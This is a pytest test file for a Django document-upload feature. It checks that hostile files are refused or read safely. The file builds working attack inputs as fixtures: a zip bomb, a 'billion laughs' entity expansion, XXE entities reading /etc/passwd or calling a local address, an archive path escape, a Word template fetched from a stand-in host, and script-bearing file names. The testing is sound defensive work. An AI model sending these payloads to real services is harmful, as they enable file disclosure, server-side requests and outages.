"""Files a stranger made: read or refused with a sentence, in time, and never trusted by name."""

import io
import zipfile
from contextlib import contextmanager

import docx
import pypdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from tests.web.test_routes import taken_back
from tovholder.confined import Stopped, run_limited
from tovholder.intake.models import Passage, Source

pytestmark = [pytest.mark.django_db, pytest.mark.once]
TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml"


def word(text="Vi gør det sammen (eksempel)."):
    document, target = docx.Document(), io.BytesIO()
    document.add_paragraph(text)
    document.save(target)
    return target.getvalue()


def changed(more, replaced=()):
    """A Word file with parts put in or written over."""
    target = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(word())) as source, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as out:
        for name in source.namelist():
            content = source.read(name)
            for part, old, new in replaced:
                content = content.replace(old, new) if name == part else content
            if name not in more:
                out.writestr(name, content)
        for name, content in more.items():
            out.writestr(name, content)
    return target.getvalue()


def bomb():
    target = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(word())) as source, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as out:
        for name in source.namelist():
            out.writestr(name, source.read(name))
        with out.open("word/media/image1.xml", "w") as part:
            for _ in range(400):
                part.write(b"\0" * (1 << 20))
    return target.getvalue()


def with_entities(entities, use):
    head = f'<?xml version="1.0"?><!DOCTYPE w [{entities}]>'.encode()
    space = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    body = f'<w:document xmlns:w="{space}"><w:body><w:p><w:r><w:t>Hej %s</w:t></w:r></w:p></w:body></w:document>'
    return changed({"word/document.xml": head + (body % use).encode()})


def laughs():
    rows = ['<!ENTITY a0 "ha ha ha ha">'] + [f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12)]
    return with_entities("".join(rows), "&a11;")


def pdf(pages, password=""):
    """A PDF whose pages each hold one line."""
    writer = pypdf.PdfWriter()
    font = pypdf.generic.DictionaryObject(
        {
            pypdf.generic.NameObject(f"/{key}"): pypdf.generic.NameObject(f"/{value}")
            for key, value in (("Type", "Font"), ("Subtype", "Type1"), ("BaseFont", "Helvetica"))
        }
    )
    for number in range(pages):
        page = writer.add_blank_page(595, 842)
        stream = pypdf.generic.DecodedStreamObject()
        stream.set_data(f"BT /F1 12 Tf 72 720 Td (Kapitel {number} handler om udskrivning.) Tj ET".encode())
        page[pypdf.generic.NameObject("/Contents")] = writer._add_object(stream)
        fonts = pypdf.generic.DictionaryObject({pypdf.generic.NameObject("/F1"): font})
        page[pypdf.generic.NameObject("/Resources")] = pypdf.generic.DictionaryObject({pypdf.generic.NameObject("/Font"): fonts})
    if password:
        writer.encrypt(password)
    target = io.BytesIO()
    writer.write(target)
    return target.getvalue()


RELS = "word/_rels/document.xml.rels"
EXTERNAL = (
    b'<Relationship Id="rId900" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="http://ond.example/skabelon.dotm" TargetMode="External"/></Relationships>'
)
REFUSED = {
    "a bomb in a docx": ("bombe.docx", bomb),
    "laughs": ("latter.docx", laughs),
    "an encrypted pdf": ("laast.pdf", lambda: pdf(1, "hemmelig")),
    "a path out of the archive": ("ud.docx", lambda: changed({"../../../tmp/tovholder-ud": b"x"})),
    "half a zip": ("halv.docx", lambda: word()[:900]),
    "half a pdf": ("halv.pdf", lambda: b"%PDF-1.7\n1 0 obj\n<<"),
    "a program": ("plan.docx", lambda: b"\x7fELF" + b"\0" * 4000),
    "an old Word file": ("gammel.doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4000),
    "zeros": ("nul.txt", lambda: b"\0" * 100_000),
    "nothing": ("tom.txt", lambda: b""),
    "spaces": ("tom.txt", lambda: b" \n" * 100),
    "a million brackets": ("dyb.html", lambda: b"<!doctype html>" + b"<div>" * 400_000),
}
READ = {
    "three hundred pages": ("plan.pdf", lambda: pdf(300)),
    "a name with a path": ("../../../etc/passwd.docx", word),
    "a name that runs": ("<script>alert(1)</script>.docx", word),
    "a name that turns": ("plan\u202excod.exe.docx", word),
    "script in the text": ("plan.txt", lambda: b"<script>alert(1)</script> siger vi"),
    "script in a docx": ("plan.docx", lambda: word("<script>alert(1)</script> siger vi")),
    "Latin-1": ("plan.txt", lambda: "Vi går på tværs af øer".encode("latin-1")),
    "UTF-16": ("plan.txt", lambda: "Vi går på tværs af øer".encode("utf-16")),
    "emoji and right to left": ("plan.txt", lambda: "مرحبا 👩‍⚕️ \u202ehej".encode()),
}
EITHER = {
    "macros": (
        "makro.docm",
        lambda: changed(
            {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}, [("[Content_Types].xml", b"document.main+xml", b"document.macroEnabled.main+xml")]
        ),
    ),
    "an external template": ("skabelon.docx", lambda: changed({}, [(RELS, b"</Relationships>", EXTERNAL)])),
    "a file from the machine": ("xxe.docx", lambda: with_entities('<!ENTITY x SYSTEM "file:///etc/passwd">', "&x;")),
    "an address on the net": ("xxe.docx", lambda: with_entities('<!ENTITY x SYSTEM "http://127.0.0.1:9/">', "&x;")),
    "two kinds at once": ("plan.pdf", lambda: b"%PDF-1.4\n" + word()),
    "a zip with html before it": ("plan.html", lambda: b"<!doctype html><p>Hej med jer</p>" + word()),
}


@contextmanager
def handed_in(doors, name, content):
    with taken_back():
        before = Source.objects.count()
        file = SimpleUploadedFile("x", content, "application/octet-stream")
        file._name = name
        response = doors["planner"].post("/kilder/upload/", {"file": file})
        assert response.status_code in (302, 422), response.status_code
        page = response.content.decode()
        assert "<script>alert" not in page
        assert "Traceback" not in page
        if response.status_code == 422:
            assert Source.objects.count() == before
        yield response, page


@pytest.mark.parametrize("case", REFUSED)
def test_it_is_refused_with_a_sentence_and_nothing_is_kept(doors, case):
    name, make = REFUSED[case]
    with handed_in(doors, name, make()) as (response, page):
        assert response.status_code == 422
        assert 'class="form-error-message"' in page or "error" in page


@pytest.mark.slow
@pytest.mark.parametrize("case", READ)
def test_it_is_read_and_shown_harmless(doors, case):
    name, make = READ[case]
    with handed_in(doors, name, make()) as (response, _page):
        assert response.status_code == 302
        source = Source.objects.get(pk=response.headers["Location"].rstrip("/").rpartition("/")[2])
        assert Passage.objects.filter(source=source).exists()
        shown = doors["planner"].get(response.headers["Location"])
        assert shown.status_code == 200
        for page in (shown, doors["planner"].get("/kilder/")):
            assert "<script>alert" not in page.content.decode()
        assert "/" not in source.filename


@pytest.mark.parametrize("case", EITHER)
def test_it_reads_nothing_from_outside_the_file(doors, case):
    name, make = EITHER[case]
    with handed_in(doors, name, make()) as (response, page):
        told = page + "".join(Passage.objects.values_list("text", flat=True))
        assert "root:" not in told
        if case == "macros" and response.status_code == 302:
            assert "akro" in str(Source.objects.get(pk=response.headers["Location"].rstrip("/").rpartition("/")[2]).notices)


def test_a_child_that_eats_memory_or_time_is_stopped_and_we_go_on():
    with pytest.raises(Stopped):
        run_limited(["json.tool"], b"[" * 5_000_000, memory=200 << 20, processor=5, wall=20)
